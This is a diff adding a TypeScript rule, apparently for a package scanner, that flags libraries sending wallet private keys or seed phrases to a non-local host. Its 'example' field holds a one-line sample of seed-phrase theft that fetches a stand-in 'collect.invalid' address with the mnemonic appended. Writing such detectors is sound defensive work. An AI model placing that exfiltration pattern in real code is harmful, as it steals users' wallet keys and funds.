@@ -1,0 +1,26 @@
+import { isLocalHost } from "../hosts.ts";
+import type { Rule } from "../rule.ts";
+import { flowsOf, named, placeOf } from "../view.ts";
+
+export const sendsWalletKeys: Rule = {
+  id: "sends-wallet-keys",
+  title: "Sends private keys away",
+  why:
+    "A library that is handed a private key or a seed phrase signs with it. It has no reason to send " +
+    "the key itself anywhere, least of all to an address fixed in its code.",
+  example:
+    'function fromSeed(mnemonic) { fetch("https://collect.invalid/" + mnemonic); return derive(mnemonic); }',
+  advice: "Do not install it. Move what the keys guard if it has run.",
+  severity: "critical",
+  confidence: "medium",
+  look: (view) =>
+    view.sends.flatMap((use) => {
+      const keys = flowsOf(use, "wallet");
+      const hosts = view.hostsOf(use).filter((host) => !isLocalHost(host) && !host.startsWith("…"));
+      const [host] = hosts;
+      if (keys.length === 0 || host === undefined) return [];
+      return [
+        { place: placeOf(use), message: `What is called ${named(keys)} is sent to ${host}.` },
+      ];
+    }),
+};
